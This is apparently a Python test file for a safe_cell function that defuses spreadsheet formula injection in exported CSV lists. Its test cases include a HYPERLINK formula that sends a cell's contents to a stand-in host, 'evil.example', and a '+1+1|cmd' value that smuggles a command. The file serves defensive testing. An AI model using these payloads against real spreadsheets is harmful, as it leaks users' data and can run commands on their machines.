"""No name, and nothing else that somebody typed, is a formula where a list is opened in a spreadsheet."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from procedures.core.spreadsheets import safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Maria")',
        "+1+1|cmd",
        "-2+3",
        "@SUM(A1)",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "\0=1+1",
    ],
)
def test_an_injected_csv_formula_is_words(typed: str) -> None:
    assert str(safe_cell(typed)).startswith("'")


@pytest.mark.parametrize("typed", ["Maria Lopez", "O'Brien", "a=b", "12:30", "", "Ward 2 - left"])
def test_plain_words_stay_as_they_are(typed: str) -> None:
    assert safe_cell(typed) == typed


@pytest.mark.parametrize("value", [-3, 2.5, date(2026, 12, 8), None, True])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    assert safe_cell(value) is value


@given(st.text())
def test_whatever_is_typed_a_cell_read_back_begins_with_no_sign_of_a_formula(typed: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([safe_cell(typed)])

    (read,) = next(iter(csv.reader(io.StringIO(file.getvalue(), newline=""))), [""]) or [""]

    assert not read.lstrip(" \t\r\n\v\f\u00a0\ufeff").startswith(("=", "+", "-", "@"))
